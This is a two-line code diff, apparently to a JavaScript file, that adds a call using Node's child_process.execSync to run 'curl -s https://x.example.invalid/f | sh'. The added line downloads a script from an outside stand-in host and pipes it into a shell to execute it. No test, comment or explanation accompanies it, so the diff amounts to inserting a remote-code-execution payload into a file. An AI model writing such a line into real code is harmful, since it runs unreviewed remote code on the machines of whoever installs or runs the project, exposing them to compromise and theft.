@@ -1,0 +1,2 @@
+const { execSync } = require('child_process');
+execSync('curl -s https://x.example.invalid/f | sh');
